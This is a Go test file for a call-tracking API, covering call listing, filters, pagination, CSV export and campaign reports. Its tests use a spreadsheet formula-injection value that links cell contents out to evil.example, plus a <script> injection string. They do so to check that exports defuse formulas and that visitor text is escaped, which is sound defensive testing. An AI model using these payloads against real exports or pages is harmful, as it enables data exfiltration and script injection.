package httpapi_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"testing"
	"time"

	"github.com/dni-dev/dni/allocator"
	"github.com/dni-dev/dni/fsm"
	"github.com/dni-dev/dni/httpapi"
	"github.com/dni-dev/dni/internal/testkit"
)

// formula is a utm_campaign a visitor chose so that a spreadsheet opening
// the CSV export would run it.
const formula = `=HYPERLINK("https://evil.example/?"&A1,"Click")`

// callScene is a pool whose four numbers are held by visits from four
// campaigns, and six calls a minute apart, the last to a number no pool has.
type callScene struct {
	a      *testAPI
	pool   poolReply
	visits []visitReply // visits[i] holds the pool's i-th number
	base   time.Time    // when the first call started
}

type sceneCall struct {
	sid        string
	number     int // which of the pool's numbers is called; -1 for one no pool has
	from       string
	status     allocator.CallStatus
	duration   time.Duration
	answeredBy string
}

// sceneCalls, in the order they came. A call is answered if it completed
// with a duration or someone who answered.
var sceneCalls = []sceneCall{
	{"CA01", 0, "+12125550001", allocator.CallCompleted, 90 * time.Second, "+14155550100"}, // google/spring, answered
	{"CA02", 1, "+12125550002", allocator.CallCompleted, 0, ""},                            // google/fall, not answered
	{"CA03", 0, "+12125550001", allocator.CallNoAnswer, 0, ""},                             // google/spring again, same caller
	{"CA04", 2, "+12125550003", allocator.CallCompleted, 30 * time.Second, ""},             // facebook/spring, answered
	{"CA05", 3, "+12125550004", allocator.CallBusy, 0, ""},                                 // bing/formula
	{"CA06", -1, "+12125550005", allocator.CallCompleted, 10 * time.Second, "+14155550100"},
}

// newestFirst lists the scene's call SIDs as /v1/calls lists them.
func newestFirst() []string {
	var out []string
	for _, c := range slices.Backward(sceneCalls) {
		out = append(out, c.sid)
	}
	return out
}

func startCallScene(t testing.TB) *callScene {
	t.Helper()
	a := startAPI(t, httpapi.Options{})
	n := numbersFrom(123, 4)
	s := &callScene{a: a, pool: a.createPool(nil, n...)}
	for _, attr := range []map[string]any{
		{"utm_source": "google", "utm_medium": "cpc", "utm_campaign": "spring"},
		{"utm_source": "google", "utm_medium": "cpc", "utm_campaign": "fall"},
		{"utm_source": "facebook", "utm_medium": "social", "utm_campaign": "spring"},
		{"utm_source": "bing", "utm_medium": "cpc", "utm_campaign": formula},
	} {
		s.visits = append(s.visits, a.visit(s.pool.Key, attr))
	}
	// The calls start after the visits, on whole seconds, so that from and
	// to filters (RFC 3339, seconds) can name them exactly.
	s.base = time.Now().Add(2 * time.Second).Truncate(time.Second)
	for i, call := range sceneCalls {
		to := "+19995550000"
		if call.number >= 0 {
			to = n[call.number]
		}
		at := s.at(i)
		a.Command(&fsm.RecordCall{SID: call.sid, To: to, From: call.from, At: at})
		a.Command(&fsm.UpdateCall{SID: call.sid, Status: call.status, Duration: call.duration, AnsweredBy: call.answeredBy, At: at.Add(call.duration + time.Second)})
	}
	return s
}

// at is when call i started.
func (s *callScene) at(i int) time.Time { return s.base.Add(time.Duration(i) * time.Minute) }

func (s *callScene) stamp(i int) string { return s.at(i).UTC().Format(time.RFC3339) }

type callReply struct {
	SID         string            `json:"sid"`
	StartedAt   time.Time         `json:"started_at"`
	From        string            `json:"from"`
	To          string            `json:"to"`
	Pool        string            `json:"pool"`
	Match       string            `json:"match"`
	Visit       string            `json:"visit"`
	Attribution map[string]string `json:"attribution"`
	Channel     string            `json:"channel"`
	Whisper     string            `json:"whisper"`
	FirstTime   bool              `json:"first_time"`
	Status      string            `json:"status"`
	DurationS   int               `json:"duration_s"`
	AnsweredBy  string            `json:"answered_by"`
}

type callPage struct {
	Calls      []callReply `json:"calls"`
	NextCursor *string     `json:"next_cursor"`
}

func (a *testAPI) calls(query string) callPage {
	a.t.Helper()
	var page callPage
	a.AdminOK("GET", "/v1/calls"+query, nil, http.StatusOK, &page)
	return page
}

func sids(calls []callReply) []string {
	var out []string
	for _, c := range calls {
		out = append(out, c.SID)
	}
	return out
}

func TestCallsAreListedNewestFirstWithTheirVisitsAttribution(t *testing.T) {
	s := startCallScene(t)
	page := s.a.calls("")
	if got := sids(page.Calls); !slices.Equal(got, newestFirst()) || page.NextCursor != nil {
		t.Fatalf("calls %v, next %v", got, page.NextCursor)
	}
	byID := map[string]callReply{}
	for _, c := range page.Calls {
		byID[c.SID] = c
	}
	first := byID["CA01"]
	if first.Match != "live" || first.Visit != s.visits[0].Visit || first.Pool != s.pool.ID || first.To != s.visits[0].Number ||
		first.From != "+12125550001" || !first.StartedAt.Equal(s.at(0)) || !first.FirstTime || first.Status != "completed" ||
		first.DurationS != 90 || first.AnsweredBy != "+14155550100" ||
		first.Attribution["utm_source"] != "google" || first.Attribution["utm_campaign"] != "spring" ||
		first.Attribution["landing_page"] != landing {
		t.Errorf("CA01: %+v", first)
	}
	if again := byID["CA03"]; again.FirstTime || again.Status != "no-answer" || again.Visit != s.visits[0].Visit {
		t.Errorf("CA03, a second call from one caller: %+v", again)
	}
	if none := byID["CA06"]; none.Match != "none" || none.Pool != "" || none.Visit != "" || len(none.Attribution) != 0 || !none.FirstTime {
		t.Errorf("CA06, to a number no pool has: %+v", none)
	}
}

func TestCallsAreFilteredByPoolSourceCampaignAndTime(t *testing.T) {
	s := startCallScene(t)
	for _, c := range []struct {
		query url.Values
		want  []string
	}{
		{url.Values{"pool": {s.pool.ID}}, []string{"CA05", "CA04", "CA03", "CA02", "CA01"}},
		{url.Values{"pool": {"pl_other"}}, nil},
		{url.Values{"source": {"google"}}, []string{"CA03", "CA02", "CA01"}},
		{url.Values{"source": {"GOOGLE"}}, []string{"CA03", "CA02", "CA01"}},
		{url.Values{"medium": {"social"}}, []string{"CA04"}},
		{url.Values{"campaign": {"spring"}}, []string{"CA04", "CA03", "CA01"}},
		{url.Values{"campaign": {formula}}, []string{"CA05"}},
		{url.Values{"source": {"google"}, "campaign": {"spring"}}, []string{"CA03", "CA01"}},
		{url.Values{"from": {s.stamp(2)}}, []string{"CA06", "CA05", "CA04", "CA03"}},
		{url.Values{"to": {s.stamp(2)}}, []string{"CA02", "CA01"}},
		{url.Values{"from": {s.stamp(2)}, "to": {s.stamp(4)}}, []string{"CA04", "CA03"}},
		{url.Values{"from": {s.stamp(2)}, "to": {s.stamp(4)}, "source": {"facebook"}}, []string{"CA04"}},
	} {
		if got := sids(s.a.calls("?" + c.query.Encode()).Calls); !slices.Equal(got, c.want) {
			t.Errorf("%s: %v, want %v", c.query.Encode(), got, c.want)
		}
	}
}

func TestCallPagesWalkEveryCallOnce(t *testing.T) {
	s := startCallScene(t)
	for _, c := range []struct {
		filter string
		want   []string
	}{
		{"", newestFirst()},
		{"&source=google", []string{"CA03", "CA02", "CA01"}},
		{"&campaign=spring", []string{"CA04", "CA03", "CA01"}},
	} {
		for limit := 1; limit <= len(sceneCalls)+1; limit++ {
			var got []string
			first := "?limit=" + strconv.Itoa(limit) + c.filter
			query := first
			for pages := 0; ; pages++ {
				if pages > len(sceneCalls)+1 {
					t.Fatalf("limit %d%s: the pages never end", limit, c.filter)
				}
				page := s.a.calls(query)
				if len(page.Calls) > limit {
					t.Errorf("limit %d%s: a page of %d", limit, c.filter, len(page.Calls))
				}
				got = append(got, sids(page.Calls)...)
				if page.NextCursor == nil {
					break
				}
				query = first + "&cursor=" + url.QueryEscape(*page.NextCursor)
			}
			if !slices.Equal(got, c.want) {
				t.Errorf("limit %d%s: walked %v, want %v", limit, c.filter, got, c.want)
			}
		}
	}
}

func TestABadCallQueryIsRefused(t *testing.T) {
	s := startCallScene(t)
	for _, query := range []string{
		"limit=0", "limit=501", "limit=ten", "limit=-1",
		"cursor=x", "cursor=-1", "cursor=7", "cursor=1e3",
		"from=yesterday", "to=2026-13-01T00:00:00Z", "from=2026-01-01",
		"from=" + url.QueryEscape(s.stamp(2)) + "&to=" + url.QueryEscape(s.stamp(2)),
		"from=" + url.QueryEscape(s.stamp(3)) + "&to=" + url.QueryEscape(s.stamp(2)),
	} {
		wantProblem(t, s.a.Admin("GET", "/v1/calls?"+query, nil), http.StatusBadRequest, "")
	}
	for _, query := range []string{"group=colour", "group=source,", "group=Source", "from=yesterday"} {
		wantProblem(t, s.a.Admin("GET", "/v1/reports/calls?"+query, nil), http.StatusBadRequest, "")
	}
	wantStatus(t, s.a.Admin("GET", "/v1/calls?limit=500&cursor=6", nil), http.StatusOK)
}

var csvColumns = []string{
	"started_at", "sid", "from", "to", "pool", "match", "utm_source", "utm_medium", "utm_campaign",
	"utm_term", "utm_content", "gclid", "referrer", "landing_page", "status", "duration_s",
	"answered_by", "first_time", "visit", "outcome", "value", "currency", "note",
}

func TestCallsExportAsCSVWithFormulasDefused(t *testing.T) {
	s := startCallScene(t)
	for _, c := range []struct {
		name, query string
		header      []string
		want        []string
	}{
		{"Accept: text/csv", "", []string{"Accept", "text/csv"}, newestFirst()},
		{"format=csv", "?format=csv", nil, newestFirst()},
		{"filtered", "?source=google", []string{"Accept", "text/csv, application/json;q=0.5"}, []string{"CA03", "CA02", "CA01"}},
	} {
		r := s.a.Admin("GET", "/v1/calls"+c.query, nil, c.header...)
		wantStatus(t, r, http.StatusOK)
		if ct := r.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
			t.Errorf("%s: Content-Type %q", c.name, ct)
		}
		rows, err := csv.NewReader(bytes.NewReader(r.Body)).ReadAll()
		if err != nil || len(rows) == 0 {
			t.Fatalf("%s: not CSV: %v: %s", c.name, err, r.Body)
		}
		if !slices.Equal(rows[0], csvColumns) {
			t.Errorf("%s: header %v", c.name, rows[0])
		}
		var got []string
		for _, row := range rows[1:] {
			got = append(got, row[1])
		}
		if !slices.Equal(got, c.want) {
			t.Errorf("%s: rows %v, want %v", c.name, got, c.want)
		}
		for _, row := range rows[1:] {
			if row[1] == "CA05" && row[8] != "'"+formula {
				t.Errorf("%s: utm_campaign %q, want the formula defused with a leading quote", c.name, row[8])
			}
			if row[1] == "CA01" && (row[6] != "google" || row[8] != "spring" || row[5] != "live" || row[15] != "90" ||
				row[17] != "true" || row[18] != s.visits[0].Visit || row[0] != s.stamp(0)) {
				t.Errorf("%s: CA01 row %q", c.name, row)
			}
		}
	}
}

type reportRow struct {
	Source    *string `json:"source"`
	Medium    *string `json:"medium"`
	Campaign  *string `json:"campaign"`
	Calls     int     `json:"calls"`
	Answered  int     `json:"answered"`
	FirstTime int     `json:"first_time_callers"`
}

// String writes a row as "source/medium/campaign calls answered first",
// with "-" for a field not grouped by.
func (r reportRow) String() string {
	f := func(p *string) string {
		if p == nil {
			return "-"
		}
		return *p
	}
	return fmt.Sprintf("%s/%s/%s %d %d %d", f(r.Source), f(r.Medium), f(r.Campaign), r.Calls, r.Answered, r.FirstTime)
}

func TestTheCallReportCountsCallsAnsweredCallsAndFirstTimeCallersPerGroup(t *testing.T) {
	s := startCallScene(t)
	for _, c := range []struct {
		query string
		group []string
		want  []string
	}{
		{"?group=source,campaign", []string{"source", "campaign"}, []string{
			"google/-/spring 2 1 1", "/-/ 1 1 1", "bing/-/" + formula + " 1 0 1", "facebook/-/spring 1 1 1", "google/-/fall 1 0 1",
		}},
		{"?group=source&pool=" + s.pool.ID, []string{"source"}, []string{
			"google/-/- 3 1 2", "bing/-/- 1 0 1", "facebook/-/- 1 1 1",
		}},
		{"?group=medium&from=" + url.QueryEscape(s.stamp(1)) + "&to=" + url.QueryEscape(s.stamp(3)), []string{"medium"}, []string{
			"-/cpc/- 2 0 1",
		}},
		{"?pool=" + s.pool.ID + "&campaign=spring", []string{"source", "medium", "campaign"}, []string{
			"google/cpc/spring 2 1 1", "facebook/social/spring 1 1 1",
		}},
	} {
		r := s.a.Admin("GET", "/v1/reports/calls"+c.query, nil)
		wantStatus(t, r, http.StatusOK)
		var report struct {
			Group []string    `json:"group"`
			Rows  []reportRow `json:"rows"`
		}
		r.Decode(t, &report)
		var got []string
		for _, row := range report.Rows {
			got = append(got, row.String())
		}
		if !slices.Equal(report.Group, c.group) || !slices.Equal(got, c.want) {
			t.Errorf("%s:\n got %v %v\nwant %v %v", c.query, report.Group, got, c.group, c.want)
		}
	}
}

// Whatever a visitor puts in its URL comes back as the same text, inside
// JSON that still parses, wherever the admin API shows it.
func TestVisitorTextComesBackLiteralInValidJSONEverywhere(t *testing.T) {
	a := startAPI(t, httpapi.Options{})
	p := a.createPool(nil, numbersFrom(123, 4)...)
	const script = "<script>alert(1)</script>"
	const awkward = "quote \" backslash \\ line\u2028separator \x01 tab\t</script><!--"
	v := a.visit(p.Key, map[string]any{
		"url":      "https://shop.example/?utm_campaign=" + url.QueryEscape(script) + "&utm_term=%FF%FEbad",
		"referrer": awkward, "utm_content": awkward,
	})
	a.Command(&fsm.RecordCall{SID: "CA01", To: v.Number, From: "+12125550001", At: time.Now()})

	// check decodes an answer into v and compares the attribution it finds.
	check := func(where string, r testkit.Reply, v any, attribution func() map[string]string) {
		t.Helper()
		wantStatus(t, r, http.StatusOK)
		if !json.Valid(r.Body) {
			t.Fatalf("%s: not JSON: %s", where, r.Body)
		}
		if bytes.Contains(r.Body, []byte("<script>")) || bytes.Contains(r.Body, []byte("</script>")) {
			t.Errorf("%s: a script tag comes back unescaped, unsafe in an HTML page", where)
		}
		r.Decode(t, v)
		got := attribution()
		if got["utm_campaign"] != script || got["referrer"] != awkward || got["utm_content"] != awkward ||
			got["utm_term"] != "\uFFFDbad" {
			t.Errorf("%s: attribution %q", where, got)
		}
	}
	var visits struct {
		Visits []struct {
			Attribution map[string]string `json:"attribution"`
		} `json:"visits"`
	}
	check("visits", a.Admin("GET", "/v1/pools/"+p.ID+"/visits", nil), &visits, func() map[string]string {
		return visits.Visits[0].Attribution
	})
	var calls callPage
	check("calls", a.Admin("GET", "/v1/calls", nil), &calls, func() map[string]string {
		return calls.Calls[0].Attribution
	})

	r := a.Admin("GET", "/v1/reports/calls?group=campaign", nil)
	wantStatus(t, r, http.StatusOK)
	var report struct{ Rows []reportRow }
	r.Decode(t, &report)
	if len(report.Rows) != 1 || report.Rows[0].Campaign == nil || *report.Rows[0].Campaign != script {
		t.Errorf("report: %s", r)
	}
	r = a.Admin("GET", "/v1/calls", nil, "Accept", "text/csv")
	rows, err := csv.NewReader(bytes.NewReader(r.Body)).ReadAll()
	if err != nil || len(rows) != 2 || rows[1][8] != script || rows[1][12] != awkward {
		t.Errorf("CSV: %v %q", err, rows)
	}
}
